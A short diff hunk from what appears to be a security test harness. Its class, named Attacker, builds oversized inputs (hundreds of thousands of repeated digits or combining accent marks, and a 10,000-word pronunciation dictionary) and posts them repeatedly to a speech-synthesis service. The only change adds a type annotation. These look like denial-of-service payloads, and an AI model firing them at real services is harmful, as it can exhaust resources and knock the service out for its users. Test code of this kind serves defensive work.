@@ -534,7 +534,7 @@ class Attacker:
         digits, marks = "lj*" + "1" * 240_000 + "x", "a  " + "\u0301\u0323" * 240_000
         words = {f"w{number}": "F IH1 SH" for number in range(10_000)}
         largest = ",".join(f"w{number}  fɪʃ" for number in range(1000))
-        call = self.channel.unary_unary(f"/{RIVA}/Synthesize")
+        call: Any = self.channel.unary_unary(f"/{RIVA}/Synthesize")
         for _ in range(5):
             post(self.places[1], self.victim.hostile, input="Hi.", voice=digits)
             post(self.places[1], self.victim.hostile, input="Hi.", dictionary=words)
